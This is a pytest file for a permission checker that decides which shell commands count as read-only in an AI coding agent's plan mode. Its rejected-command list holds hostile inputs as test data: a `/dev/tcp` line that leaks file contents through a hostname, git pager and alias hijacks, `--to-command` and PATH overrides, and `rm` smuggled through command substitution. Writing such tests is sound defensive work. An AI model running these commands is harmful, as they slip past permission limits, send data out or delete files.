"""Commands that count as read-only, which plan mode allows."""

import hashlib
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kimi_tui.permission.bash.command_line import parse_command
from kimi_tui.permission.read_only_commands import is_read_only
from kimi_tui.permission.writable_roots import WritableRoots
from tests.timeouts import TEST_TIMEOUT_S
from tests.tools.recording_bash import RecordingBash

ROOTS = WritableRoots.resolve(Path("/work-dir"))


@pytest.mark.parametrize(
    "command",
    [
        "git diff",
        "git diff HEAD~1 -- src/a.py",
        "git -C sub --no-pager log --oneline -5",
        "git status && git stash list",
        "echo $(git rev-parse HEAD) 2>/dev/null || true",
        "git branch -a",
        "git branch --contains HEAD",
        "git branch --list 'fix/*'",
        "git tag -n3 --list 'v*'",
        "git remote -v",
        "git remote get-url origin",
        "git reflog -5",
        "git config --get user.name",
        "ls -la | head -5",
        "cat a b > /dev/null 2>&1",
        "cd src && grep -rn 'def x' . | sort | uniq -c",
        "find . -name '*.py' -not -path './x/*'",
        "find . -name '*.py' -print0 | xargs -0 grep -n x",
        "for f in a b; do cat $f; done",
        "if test -f a; then wc -l a; fi",
        "sed -n 1,5p a.py",
        "bash -c 'ls src'",
        "timeout 5 rg --files",
        "LC_ALL=C sort -k2,2n a",
        "date +%s",
        "command -v python3",
        "python3 --version",
        "cat <<'E'\nx\nE",
        "set -o pipefail; tail -n 3 a",
        "/usr/bin/ls",
        "while read x; do echo $x; done < a.txt",
        "diff <(ls a) <(ls b)",
    ],
)
def test_a_command_that_can_only_read_is_read_only(command: str) -> None:
    assert is_read_only(parse_command(command), ROOTS)


@pytest.mark.parametrize(
    "command",
    [
        "",
        "rm a",
        "git push",
        "git commit -m x",
        "git checkout .",
        "git diff --output=a",
        "git diff --outp=a",
        "git log --output a",
        "git diff $x",
        "git diff *.py",
        "git -c core.pager=evil log",
        "git -c alias.x=!evil x",
        "git --exec-path=. diff",
        "git --git-dir=evil status",
        "git --git-dir evil status",
        "git --bare status",
        "git -C $x status",
        "GIT_DIR=evil git status",
        "GIT_DIR=evil; git status",
        "export GIT_DIR=evil; git status",
        "pushd evil; git status",
        "env -C evil git status",
        "find . -execdir git status ;",
        "git grep -Oevil x",
        "git grep --open-files-in-pager=evil x",
        "git ls-remote ext::evil",
        "git branch new",
        "git branch -d old",
        "git branch --sort=x new",
        "git tag v1",
        "git tag -d v1",
        "git remote -v update",
        "git remote add x y",
        "git reflog expire --all",
        "git stash",
        "git stash pop",
        "git config user.name x",
        "git config --get x; git config x y",
        "git worktree add x",
        "git submodule foreach ls",
        "git bisect start",
        "find . -delete",
        "find . -name x -exec rm {} +",
        "find . -exec cat {} ;",
        "find . -fprint out",
        "find . -name $x",
        "find $dir -name x",
        "sed -i s/a/b/ a",
        "sed s/a/b/w out a",
        "sed -n 'w out' a",
        "awk '{print > \"out\"}' a",
        "ls > out",
        "ls >> out",
        "ls &> out",
        "ls | tee out",
        "cat < a <> b",
        "cat a > >(tee out)",
        "{ ls; } > out",
        "sort -o out a",
        "base64 -i a -o b",
        "sort -uo out a",
        "sort --outp=out a",
        "sort $x",
        "sort --compress-program=evil a",
        "uniq a out",
        "uniq $x",
        "xxd a out",
        "uniq a -c",
        "xxd -r a",
        "tree -o out",
        "file -C -m x",
        "fd x -x rm",
        "fd x -Hx rm",
        "rg --pre evil x",
        "rg --pre=evil x",
        "shuf -o out a",
        "sort --o=out a",
        "sort --co=evil a",
        "shuf --o=out a",
        "file --co -m x",
        "git grep --op=evil x",
        "diff3 --diff-program=evil a b c",
        "lsof -D b/tmp/x",
        "cat < /dev/tcp/example.org/80",
        "cat < /dev/tcp/$(cat a).example.org/80",
        "f=/dev/tcp/example.org/80; cat < $f",
        'while read x; do echo $x; done < "$f"',
        "less a",
        "man -P evil ls",
        "sed -n 1e a",
        "tar -xf a --to-command=evil",
        "date -s tomorrow",
        "date 010101",
        "hostname x",
        "env -S 'rm a'",
        "env PATH=. ls",
        "PATH=. ls",
        "GIT_EXTERNAL_DIFF=evil git diff",
        "PAGER=evil; git log",
        "export GIT_PAGER=evil; git log",
        "./ls",
        "bin/ls",
        "/tmp/cat a",
        "$cmd a",
        "eval 'rm a'",
        "bash -c 'rm a'",
        "bash script.sh",
        "source a",
        "ls; rm a",
        "ls && rm a",
        "ls | xargs rm",
        "ls | xargs git diff",
        "ls | xargs -I{} sort {}",
        "echo $(rm a)",
        "echo `rm a`",
        'echo "$(rm a)"',
        "cat <<E\n$(rm a)\nE",
        "cat <(rm a)",
        "ls & rm a",
        "if ls; then rm a; fi",
        "for f in $(rm a); do ls; done",
        "ls() { rm a; }; ls",
        "alias ls=rm; ls a",
        "test -v 'a[$(rm a)]'",
        "printf -v 'a[$(rm a)]' x",
        "read 'a[$(rm a)]'",
        "time -o out ls",
        "nohup rm a",
        "python3 -c 1",
        "make -n",
        "npm test",
        "curl http://localhost",
        "echo ${x:=y}",
        "echo $((x=1))",
        "(( x = 1 ))",
        "case a in a) ls;; esac",
        "ls '",
    ],
)
def test_a_command_that_may_change_something_is_not_read_only(command: str) -> None:
    assert not is_read_only(parse_command(command), ROOTS)


_PROGRAMS = [
    "git", "git diff", "git log", "git show", "git status", "git branch", "git tag", "git stash",
    "git config", "git remote", "git reflog", "git grep", "git -C sub", "ls", "cat", "sort", "uniq",
    "find", "sed", "sed -n", "xargs", "xargs -n1", "tee", "rm", "touch", "echo", "printf", "env",
    "bash -c", "test", "head", "cd", "date", "! ls", "time ls", "command", "file", "xxd", "diff",
    "timeout 5 cat", "tree", "for x in a b; do",
]  # fmt: skip
_ARGUMENTS = [
    "a", "b", "new", ".", "sub", "-o", "-n", "-i", "-v", "-d", "-l", "-a", "-u", "-r", "-C", "--list",
    "--output", "--output=new", "-delete", "-exec", "-fprint", "{}", "+", "\\;", "-name", "'*.txt'",
    "*.txt", "$x", '"$x"', "1p", "'w new'", "s/a/b/", "--", "HEAD", "-m", "'rm a'", "> new", ">> a",
    "< a", "2>&1", "&> new", ">/dev/null", "$(rm a)", "$(ls)", "`touch new`", "<(cat a)", ">(tee new)",
    "-c", "x=new",
]  # fmt: skip
_COMMANDS = st.tuples(st.sampled_from(_PROGRAMS), st.lists(st.sampled_from(_ARGUMENTS), max_size=4))
_LINES = st.lists(
    st.tuples(
        _COMMANDS.map(lambda it: " ".join([it[0], *it[1]])), st.sampled_from(["; ", " | ", " && ", " & "])
    ),
    min_size=1,
    max_size=3,
).map(lambda commands: "".join(text + separator for text, separator in commands).rstrip(" ;|&"))
_READERS = {
    "cat", "command", "date", "diff", "echo", "env", "file", "find", "git", "head", "ls", "printf",
    "sed", "sort", "test", "time", "timeout", "tree", "uniq", "xargs", "xxd",
}  # fmt: skip


class ReadOnlySandbox:
    """A repository whose content can be compared before and after a command."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self._bash = shutil.which("bash") or pytest.skip("bash isn't installed")
        (folder / "sub").mkdir(parents=True)
        for name in ("a", "b", "c.txt", "sub/d.txt"):
            (folder / name).write_text(f"{name}\nmore\n")
        for arguments in (["init", "-q"], ["add", "."], ["commit", "-qm", "first"]):
            self._git(*arguments)
        (folder / "a").write_text("changed\n")

    def _git(self, *arguments: str) -> None:
        identity = ("-c", "user.name=n", "-c", "user.email=e@example.org")
        subprocess.run(["git", *identity, *arguments], cwd=self.folder, check=True, stdout=subprocess.DEVNULL)

    def run(self, command: str) -> None:
        subprocess.run(
            [self._bash, "-c", command],
            cwd=self.folder,
            env={"PATH": "/usr/bin:/bin", "HOME": str(self.folder), "GIT_OPTIONAL_LOCKS": "0"},
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            timeout=TEST_TIMEOUT_S,
            check=False,
        )

    @property
    def content(self) -> dict[str, str]:
        return {
            str(path.relative_to(self.folder)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(self.folder.rglob("*"))
            if path.is_file()
        }


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ReadOnlySandbox]:
    return ReadOnlySandbox(tmp_path_factory.mktemp("sandbox") / "repo")


@pytest.mark.skipif(shutil.which("git") is None, reason="git isn't installed")
@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(command=_LINES)
def test_a_read_only_command_changes_no_file_in_a_real_shell(sandbox: ReadOnlySandbox, command: str) -> None:
    if is_read_only(parse_command(command), WritableRoots.resolve(sandbox.folder)):
        before = sandbox.content
        sandbox.run(command)
        assert sandbox.content == before, command


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(command=_LINES)
def test_a_read_only_command_runs_only_read_only_programs(
    recording_bash: RecordingBash, command: str
) -> None:
    if is_read_only(parse_command(command), ROOTS):
        assert recording_bash.executed_programs(command) <= _READERS


@pytest.fixture(scope="module")
def recording_bash(tmp_path_factory: pytest.TempPathFactory) -> RecordingBash:
    return RecordingBash(tmp_path_factory.mktemp("recording-bash"))
